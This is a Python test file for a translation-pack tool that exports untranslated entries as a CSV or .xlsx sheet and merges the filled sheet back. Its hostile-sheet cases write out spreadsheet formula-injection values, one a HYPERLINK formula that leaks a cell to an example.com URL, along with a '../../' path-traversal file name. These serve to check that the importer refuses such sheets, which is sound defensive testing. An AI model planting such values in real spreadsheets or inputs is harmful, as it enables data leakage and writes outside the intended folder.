"""`culturebench reference sheet` and `reference fill` (data/pack_sheet.py): a pack's missing and draft translations
as a sheet people fill offline, and the filled sheet (CSV, or an .xlsx as a spreadsheet program saves it) merged
back; a hostile sheet is refused in one line naming the sheet and the row, and nothing is written."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from data.reference import load_pack
from tests.data.test_reference_packs import cli, wide_console  # noqa: F401  # the autouse fixture applies here too
from tests.support.paths import REPO_ROOT

GLOBALRG = REPO_ROOT / "examples" / "packs" / "globalrg"
COLUMNS = ["file", "key", "language", "english_source", "current_draft", "status", "translation", "reviewer"]
COUNTRIES = "Japan,Kenya"
#: "kite flying" is not in GlobalRG: a new concept, whose translations are missing in every language.
CONCEPTS = "dance,festival,kite flying"
REVIEWED = "native_reviewed"
AWAITING = "awaiting_native_review"
FORMATS = ["csv", "xlsx"]


def init_pack(folder: Path, concepts: str = CONCEPTS) -> Path:
    code, output = cli(
        "reference", "init", folder, "--from", GLOBALRG, "--countries", COUNTRIES, "--concepts", concepts
    )  # fmt: skip
    assert code == 0, output
    return folder


def read_csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def write_csv(path: Path, header: list[str], rows: list[dict[str, str]]) -> None:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=header, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


@pytest.fixture(scope="module")
def packs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """`main`: Japan and Kenya, dance, festival and a new concept, in ja and sw; Japan's Japanese names already
    native-reviewed (so a sheet must leave them out). `other`: the same but "paper lanterns" for the new concept,
    whose id is the same: a pack whose sheet looks like main's but whose English is not."""
    root = tmp_path_factory.mktemp("packs")
    main = init_pack(root / "main")
    table = main / "i18n" / "ja" / "countries.csv"
    rows = read_csv(table)
    assert any(r["iso2"] == "JP" for r in rows)
    for row in rows:
        if row["iso2"] == "JP":
            row["review_status"] = REVIEWED
    write_csv(table, list(rows[0]), rows)
    load_pack(main)  # still a pack
    other = init_pack(root / "other", "dance,festival,paper lanterns")
    return {"main": main, "other": other}


@pytest.fixture
def pack(packs: dict[str, Path], tmp_path: Path) -> Path:
    return Path(shutil.copytree(packs["main"], tmp_path / "pack"))


def digest(folder: Path) -> dict[str, str]:
    """Every file under the pack, by its path, with the sha256 of its bytes."""
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def make_sheet(folder: Path, out: Path) -> list[dict[str, str]]:
    code, output = cli("reference", "sheet", folder, "--out", out)
    assert code == 0, output
    with out.open(encoding="utf-8", newline="") as handle:
        reader = csv.reader(handle)
        assert next(reader) == COLUMNS
        return [dict(zip(COLUMNS, row, strict=True)) for row in reader]


# -- a filled sheet as a file: CSV, or an xlsx the way a spreadsheet program saves one ----------------------------

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


def xlsx_bytes(rows: list[list[str]], formulas: dict[str, str]) -> bytes:
    """An .xlsx of `rows` as Excel writes one: text in shared strings, no element for an empty cell, rows and
    cells named by reference; `formulas` maps a cell (e.g. "G3") to a formula, its row's text the cached value."""
    strings: dict[str, int] = {}
    body = []
    for number, row in enumerate(rows, start=1):
        cells = []
        for column, value in enumerate(row):
            ref = f"{chr(ord('A') + column)}{number}"
            if ref in formulas:
                cells.append(f'<c r="{ref}" t="str"><f>{escape(formulas[ref])}</f><v>{escape(value)}</v></c>')
            elif value:
                index = strings.setdefault(value, len(strings))
                cells.append(f'<c r="{ref}" t="s"><v>{index}</v></c>')
        if cells:
            body.append(f'<row r="{number}">{"".join(cells)}</row>')
    shared = "".join(f'<si><t xml:space="preserve">{escape(s)}</t></si>' for s in strings)
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_NS}"><Relationship Id="rId1" '
            f'Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>'
            '<sheet name="sheet" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_NS}"><Relationship Id="rId1" '
            f'Type="{REL_NS}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" '
            f'Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN_NS}"><sheetData>{"".join(body)}'
            "</sheetData></worksheet>"
        ),
        "xl/sharedStrings.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN_NS}" count="{len(strings)}" '
            f'uniqueCount="{len(strings)}">{shared}</sst>'
        ),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def csv_text(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)  # as a spreadsheet program saves CSV
    return buffer.getvalue()


def write_sheet(path: Path, rows: list[list[str]], formulas: dict[str, str] | None = None) -> Path:
    """`rows` (the header first) as the file `path` names: .csv or .xlsx."""
    if path.suffix == ".xlsx":
        path.write_bytes(xlsx_bytes(rows, formulas or {}))
    else:
        assert not formulas, "a CSV holds no formula cells, only text"
        path.write_text(csv_text(rows), encoding="utf-8")
    return path


def as_rows(sheet: list[dict[str, str]]) -> list[list[str]]:
    return [COLUMNS, *([row[c] for c in COLUMNS] for row in sheet)]


def fill(sheet: list[dict[str, str]], fills: dict[tuple[str, str], tuple[str, str]]) -> list[dict[str, str]]:
    """The sheet with `translation` and `reviewer` set for the rows `fills` names by (file, key)."""
    listed = {(r["file"], r["key"]) for r in sheet}
    assert set(fills) <= listed, set(fills) - listed
    return [
        {**r, **dict(zip(("translation", "reviewer"), fills.get((r["file"], r["key"]), ("", "")), strict=True))}
        for r in sheet
    ]


def row_number(sheet: list[dict[str, str]], file: str, key: str) -> int:
    """The row of the entry in the sheet file, as a spreadsheet program numbers it (the header is row 1)."""
    return 2 + next(i for i, r in enumerate(sheet) if (r["file"], r["key"]) == (file, key))


# -- the round trip -------------------------------------------------------------------------------------------------


def expected_listing(folder: Path) -> set[tuple[str, ...]]:
    """What a sheet of the pack lists, read from its files here (not through data.pack_entries): for ja and sw,
    each entry whose row is not native-reviewed, with its English and its value now, "" and `missing` where none."""
    countries = read_csv(folder / "countries.csv")
    concepts = read_csv(folder / "concepts.csv")
    out: set[tuple[str, ...]] = set()
    for code in ("ja", "sw"):
        base = f"i18n/{code}"
        language = json.loads((folder / base / "language.json").read_text(encoding="utf-8"))
        english = {"native_name": language["name"], "descriptor_template": "{concept} of {country}"}
        if language.get("review_status") != REVIEWED:
            for key, source in english.items():
                value = language.get(key) or ""
                out.add((f"{base}/language.json", key, code, source, value, AWAITING if value else "missing"))
        names = {r["iso2"]: r for r in read_csv(folder / base / "countries.csv")}
        for country in countries:
            row = names.get(country["iso2"], {})
            if row.get("review_status") == REVIEWED:
                continue
            for key in ("name", "descriptor_country"):
                value = row.get(key) or ""
                entry = (f"{base}/countries.csv", f"{country['iso2']}.{key}", code, country["name"], value)
                out.add((*entry, AWAITING if value else "missing"))
        texts = {r["concept_id"]: r for r in read_csv(folder / base / "concepts.csv")}
        for concept in concepts:
            row = texts.get(concept["concept_id"], {})
            if row.get("review_status") == REVIEWED:
                continue
            value = row.get("text") or ""
            entry = (f"{base}/concepts.csv", f"{concept['concept_id']}.text", code, concept["concept"], value)
            out.add((*entry, AWAITING if value else "missing"))
            if row.get("descriptor_template"):
                out.add(
                    (f"{base}/concepts.csv", f"{concept['concept_id']}.descriptor_template", code,
                     "{concept} of {country}", row["descriptor_template"], AWAITING)
                )  # fmt: skip
    return out


def new_concept_id(folder: Path, concept: str = "kite flying") -> str:
    return next(r["concept_id"] for r in read_csv(folder / "concepts.csv") if r["concept"] == concept)


@pytest.mark.parametrize("suffix", FORMATS)
def test_a_filled_sheet_is_merged_and_the_next_sheet_lists_what_is_left(
    packs: dict[str, Path], pack: Path, tmp_path: Path, suffix: str
) -> None:
    kite = new_concept_id(pack)
    sheet = make_sheet(pack, tmp_path / "sheet.csv")
    assert {tuple(r[c] for c in COLUMNS[:6]) for r in sheet} == expected_listing(pack)
    assert len(sheet) == len({(r["file"], r["key"]) for r in sheet})  # each entry once
    assert all(not r["translation"] and not r["reviewer"] for r in sheet)
    listed = {(r["file"], r["key"]) for r in sheet}
    assert ("i18n/ja/countries.csv", "JP.name") not in listed  # reviewed already
    assert ("i18n/ja/concepts.csv", f"{kite}.text") in listed  # missing
    assert not any(r["language"] == "en" for r in sheet)  # English is the source

    fills = {
        ("i18n/ja/countries.csv", "KE.name"): ("ケニア共和国", "Aiko Tanaka"),
        ("i18n/ja/countries.csv", "KE.descriptor_country"): ("ケニア", "Aiko Tanaka"),
        ("i18n/ja/concepts.csv", f"{kite}.text"): ("凧揚げ", ""),
        ("i18n/sw/concepts.csv", f"{kite}.text"): ("kurusha tiara", "Juma Mwangi"),
        ("i18n/sw/concepts.csv", "14.text"): ("ngoma ya asili", ""),
    }
    before = digest(pack)
    filled = write_sheet(tmp_path / f"filled.{suffix}", as_rows(fill(sheet, fills)))
    code, output = cli("reference", "fill", pack, filled)
    assert code == 0, output
    assert f"merged {len(fills)} translation(s)" in output, output

    after = digest(pack)
    changed = {name for name in after if before.get(name) != after[name]}
    assert changed == {"i18n/ja/countries.csv", "i18n/ja/concepts.csv", "i18n/sw/concepts.csv"}, changed

    merged = load_pack(pack)
    ja, sw = merged.languages["ja"], merged.languages["sw"]
    kenya = ja.countries["Kenya"]
    assert (kenya.name, kenya.descriptor_country) == ("ケニア共和国", "ケニア")
    assert (kenya.review_status, kenya.origin, kenya.reviewers) == (REVIEWED, "sheet", 1)
    kite_ja = ja.concepts[int(kite)]
    assert (kite_ja.text, kite_ja.review_status, kite_ja.origin) == ("凧揚げ", AWAITING, "sheet")
    assert not kite_ja.reviewers
    kite_sw = sw.concepts[int(kite)]
    assert (kite_sw.text, kite_sw.review_status, kite_sw.origin, kite_sw.reviewers) == (
        "kurusha tiara", REVIEWED, "sheet", 1
    )  # fmt: skip
    dance_sw = sw.concepts[14]
    assert (dance_sw.text, dance_sw.review_status, dance_sw.origin) == ("ngoma ya asili", AWAITING, "sheet")
    # rows left without a translation are left as they were, in the files the fill rewrote too
    original = load_pack(packs["main"])
    assert original.languages["ja"].concepts[14] == ja.concepts[14]
    assert original.languages["sw"].countries == sw.countries
    dance_ja = ja.concepts[14]
    assert (dance_ja.text, dance_ja.review_status, dance_ja.origin) == ("踊り", AWAITING, None)
    assert ja.countries["Japan"].review_status == REVIEWED and ja.countries["Japan"].origin is None

    again = make_sheet(pack, tmp_path / "again.csv")
    assert {tuple(r[c] for c in COLUMNS[:6]) for r in again} == expected_listing(pack)
    keys = {(r["file"], r["key"]): r for r in again}
    for reviewed in [
        ("i18n/ja/countries.csv", "KE.name"),
        ("i18n/ja/countries.csv", "KE.descriptor_country"),
        ("i18n/sw/concepts.csv", f"{kite}.text"),
    ]:
        assert reviewed not in keys
    assert keys[("i18n/ja/concepts.csv", f"{kite}.text")]["current_draft"] == "凧揚げ"
    assert keys[("i18n/ja/concepts.csv", f"{kite}.text")]["status"] == AWAITING
    assert keys[("i18n/sw/concepts.csv", "14.text")]["current_draft"] == "ngoma ya asili"
    assert len(again) == len(sheet) - 3


# -- hostile sheets -------------------------------------------------------------------------------------------------


@dataclass
class Hostile:
    """A filled sheet spoiled one way: its rows (the header first), the cells an xlsx holds as formulas, the bytes a
    CSV holds instead of its rows' text, and what the refusal's line names."""

    rows: list[list[str]]
    names: list[str]
    formulas: dict[str, str] = field(default_factory=dict)
    csv_bytes: bytes | None = None


#: Good rows ahead of the spoiled one: a reader that wrote as it went would have written them.
GOOD = {
    ("i18n/ja/countries.csv", "KE.name"): ("ケニア共和国", "Aiko Tanaka"),
    ("i18n/ja/countries.csv", "KE.descriptor_country"): ("ケニア", "Aiko Tanaka"),
    ("i18n/sw/concepts.csv", "14.text"): ("ngoma ya asili", ""),
}
#: The spoiled row, after the good ones.
TARGET = ("i18n/sw/countries.csv", "KE.name")


def _with(sheet: list[dict[str, str]], **cells: str) -> tuple[list[dict[str, str]], int]:
    """The sheet filled with GOOD, and the TARGET row's `cells` set; the target's row number."""
    filled = fill(sheet, GOOD)
    number = row_number(filled, *TARGET)
    filled[number - 2].update(cells)
    return filled, number


def _formula(text: str, column: str = "translation") -> Callable[[list[dict[str, str]], str, dict], Hostile]:
    def spoil(sheet: list[dict[str, str]], suffix: str, packs: dict) -> Hostile:
        filled, number = _with(sheet, **{column: text})
        return Hostile(as_rows(filled), [f"row {number}", column])

    return spoil


def _hyperlink(sheet: list[dict[str, str]], suffix: str, packs: dict) -> Hostile:
    """A link where a name goes: in a CSV the text `=HYPERLINK(...)`, in an xlsx a formula cell (its cached value a
    plausible name)."""
    formula = 'HYPERLINK("https://example.com/x?leak="&A1,"Kenya")'
    if suffix == "csv":
        filled, number = _with(sheet, translation="=" + formula)
        return Hostile(as_rows(filled), [f"row {number}", "translation"])
    filled, number = _with(sheet, translation="Kenya")
    column = chr(ord("A") + COLUMNS.index("translation"))
    return Hostile(as_rows(filled), [f"{column}{number}", "formula"], formulas={f"{column}{number}": formula})


def _unknown_key(sheet: list[dict[str, str]], suffix: str, packs: dict) -> Hostile:
    filled, number = _with(sheet, key="ZZ.name", translation="Zedi")
    return Hostile(as_rows(filled), [f"row {number}", "key", "ZZ.name"])


def _unknown_file(sheet: list[dict[str, str]], suffix: str, packs: dict) -> Hostile:
    filled, number = _with(sheet, file="../../outside.csv", translation="Kenya")
    return Hostile(as_rows(filled), [f"row {number}", "key"])


def _other_language(sheet: list[dict[str, str]], suffix: str, packs: dict) -> Hostile:
    """A Swahili file's row marked Japanese (rows pasted from the ja part of the sheet, say)."""
    filled, number = _with(sheet, language="ja", translation="ケニア")
    return Hostile(as_rows(filled), [f"row {number}", "language", "'ja'"])


def _duplicate(sheet: list[dict[str, str]], suffix: str, packs: dict) -> Hostile:
    """The same entry twice, with two translations: which one would be meant?"""
    filled, number = _with(sheet, translation="Kenya")
    again = {**next(r for r in filled if (r["file"], r["key"]) == TARGET), "translation": "Kenia"}
    filled.append(again)
    return Hostile(as_rows(filled), [f"row {len(filled) + 1}", f"row {number}", TARGET[1]])


def _not_utf8(bom: bytes) -> Callable[[list[dict[str, str]], str, dict], Hostile]:
    def spoil(sheet: list[dict[str, str]], suffix: str, packs: dict) -> Hostile:
        """A CSV whose one translation was typed in Latin-1 (its é the byte 0xe9), the rest UTF-8, after `bom`
        (Excel's "CSV UTF-8" starts with a byte-order mark): the line names the row and the file's own offset."""
        filled, number = _with(sheet, translation="Kénya")
        rows = as_rows(filled)
        data = bom + csv_text(rows).encode().replace("Kénya".encode(), "Kénya".encode("latin-1"))
        offset = data.index(b"\xe9")
        names = [f"row {number}", "translation", "UTF-8", "0xe9", f"offset {offset}"]
        return Hostile(rows, names, csv_bytes=data)

    return spoil


def _other_pack(sheet: list[dict[str, str]], suffix: str, packs: dict) -> Hostile:
    """The sheet of another pack, filled: its new concept has this pack's new concept's id, not its English."""
    other = make_sheet(packs["other"], packs["tmp"] / "other-sheet.csv")
    cid = new_concept_id(packs["other"], "paper lanterns")
    assert cid == new_concept_id(packs["main"])  # the same entry, by file and key
    filled = fill(other, {**GOOD, ("i18n/sw/concepts.csv", f"{cid}.text"): ("taa za karatasi", "Juma Mwangi")})
    # its first row of that concept, filled or not: every row of the sheet is of another pack's English
    number = 2 + next(i for i, r in enumerate(filled) if r["english_source"] == "paper lanterns")
    return Hostile(as_rows(filled), [f"row {number}", "english_source", "paper lanterns"])


def _foreign_header(sheet: list[dict[str, str]], suffix: str, packs: dict) -> Hostile:
    """A table of another tool: the same cells under other names."""
    rows = as_rows(fill(sheet, GOOD))
    rows[0] = ["path", "id", "lang", "source", "target", "state", "translation", "reviewer"]
    return Hostile(rows, ["row 1", "header"])


def _foreign_table(sheet: list[dict[str, str]], suffix: str, packs: dict) -> Hostile:
    """A pack's own countries.csv offered as a sheet."""
    table = read_csv(packs["main"] / "i18n" / "sw" / "countries.csv")
    return Hostile([list(table[0]), *(list(r.values()) for r in table)], ["row 1", "header"])


HOSTILE: dict[str, Callable[[list[dict[str, str]], str, dict], Hostile]] = {
    "hyperlink": _hyperlink,
    "plus": _formula("+254 Kenya"),
    "at-sum": _formula("@SUM(A1:A9)", "reviewer"),
    "minus-in-key": _formula("-1+1", "key"),
    "tab-equals": _formula("\t=1+1"),
    "space-equals": _formula(' =HYPERLINK("https://example.com","Kenya")'),
    "unknown-key": _unknown_key,
    "unknown-file": _unknown_file,
    "other-language": _other_language,
    "duplicate": _duplicate,
    "not-utf8": _not_utf8(b""),
    "not-utf8-bom": _not_utf8(b"\xef\xbb\xbf"),
    "other-pack": _other_pack,
    "foreign-header": _foreign_header,
    "foreign-table": _foreign_table,
}
CASES = [
    pytest.param(name, suffix, id=f"{name}-{suffix}")
    for name in HOSTILE
    for suffix in FORMATS
    if not (name.startswith("not-utf8") and suffix == "xlsx")  # an xlsx's text is XML, its encoding declared
]


@pytest.mark.parametrize(("case", "suffix"), CASES)
def test_a_hostile_sheet_is_refused_in_one_line_and_nothing_is_written(
    packs: dict[str, Path], pack: Path, tmp_path: Path, case: str, suffix: str
) -> None:
    sheet = make_sheet(pack, tmp_path / "sheet.csv")
    hostile = HOSTILE[case](sheet, suffix, {**packs, "tmp": tmp_path})
    path = tmp_path / f"filled.{suffix}"
    if hostile.csv_bytes is not None and suffix == "csv":
        path.write_bytes(hostile.csv_bytes)
    else:
        write_sheet(path, hostile.rows, hostile.formulas)
    before = digest(pack)

    code, output = cli("reference", "fill", pack, path)

    assert code == 2, output
    lines = [line for line in output.splitlines() if line.strip()]
    assert len(lines) == 1, output
    assert lines[0].startswith(str(path)), output
    for name in hostile.names:
        assert name in lines[0], (name, output)
    assert digest(pack) == before  # every file, hidden ones too: no staging file left behind either


def test_the_same_rows_unspoiled_are_merged(packs: dict[str, Path], pack: Path, tmp_path: Path) -> None:
    """The hostile sheets' good rows alone merge: what refused each of them was its spoiled row."""
    sheet = make_sheet(pack, tmp_path / "sheet.csv")
    filled, _ = _with(sheet, translation="Kenya", reviewer="Juma Mwangi")
    for suffix in FORMATS:
        copy = Path(shutil.copytree(packs["main"], tmp_path / f"pack-{suffix}"))
        code, output = cli("reference", "fill", copy, write_sheet(tmp_path / f"good.{suffix}", as_rows(filled)))
        assert code == 0, output
        assert load_pack(copy).languages["sw"].countries["Kenya"].origin == "sheet"
